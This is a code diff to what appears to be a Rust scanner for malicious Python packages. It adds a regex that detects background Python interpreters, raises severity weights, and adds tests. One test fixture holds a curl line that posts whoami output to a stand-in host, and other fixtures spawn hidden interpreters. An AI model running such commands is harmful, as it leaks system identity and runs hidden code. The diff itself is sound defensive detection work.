@@ -100,6 +100,14 @@ pub fn is_dangerous_command(command: &str) -> bool {
     DOWNLOADER_COMMAND.is_match(command)
 }
 
+/// `python -c ...`, `pythonw x.pyw`: a command that starts another Python interpreter.
+fn starts_interpreter(command: &str) -> bool {
+    static INTERPRETER: LazyLock<Regex> = crate::static_regex!(
+        r"(?i)(^|[\s/\\])(python[0-9.]*|pythonw|py)(\.exe)?\s+(-c\s|\S+\.pyw?\b)"
+    );
+    INTERPRETER.is_match(command) && !command.contains(" -m pip")
+}
+
 /// True when a command line hides, persists or hands over to another interpreter.
 pub fn is_shell_trick(command: &str) -> bool {
     SHELL_TRICK_COMMAND.is_match(command)
@@ -171,7 +179,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
                 }
                 ExecContext::Runtime => {
                     if is_dangerous_command(partial) {
-                        0.4
+                        0.5
                     } else {
                         0.1
                     }
@@ -265,9 +273,11 @@ fn classify_command(
             ),
         ),
         Some(command) if is_dangerous_command(command) => (
+            // A constant download-and-run command has one purpose whenever it runs; a function
+            // that only a caller triggers still weighs less than loading code.
             match context {
                 ExecContext::Install | ExecContext::Import => 0.9,
-                ExecContext::Runtime => 0.45,
+                ExecContext::Runtime => 0.6,
                 ExecContext::TestOrDocs => 0.2,
             },
             vec!["spawn", "shell-dropper"],
@@ -278,6 +288,9 @@ fn classify_command(
         ),
         Some(command) if is_shell_trick(command) => (
             match context {
+                // A second Python interpreter started in the background while loading runs
+                // code the package does not show: the payload lives elsewhere.
+                ExecContext::Install | ExecContext::Import if starts_interpreter(command) => 0.7,
                 ExecContext::Install | ExecContext::Import => 0.55,
                 ExecContext::Runtime => 0.12,
                 ExecContext::TestOrDocs => 0.05,
@@ -358,6 +371,21 @@ mod tests {
         assert!(!is_recon_exfiltration("echo $(hostname)"));
         let code = "import subprocess\ndef go():\n    subprocess.run('curl -d \"$(whoami)\" https://x.invalid', shell=True)\n";
         assert!(max_severity("p/pkg/m.py", code, "WH120") >= 0.7);
+    }
+
+    #[test]
+    fn background_interpreters_while_loading_are_severe() {
+        assert!(starts_interpreter(
+            "python -c import warnings; import popen"
+        ));
+        assert!(starts_interpreter("pythonw deps.pyw"));
+        assert!(!starts_interpreter("python -m pip install x"));
+        assert!(!starts_interpreter("git describe"));
+        let code =
+            "import subprocess\nsubprocess.Popen('python -c \"import helper\"', shell=True)\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.7);
+        let code = "import subprocess\ndef f():\n    subprocess.Popen('python -c \"import helper\"', shell=True)\n";
+        assert!(max_severity("p/pkg/m.py", code, "WH120") < 0.2);
     }
 
     #[test]
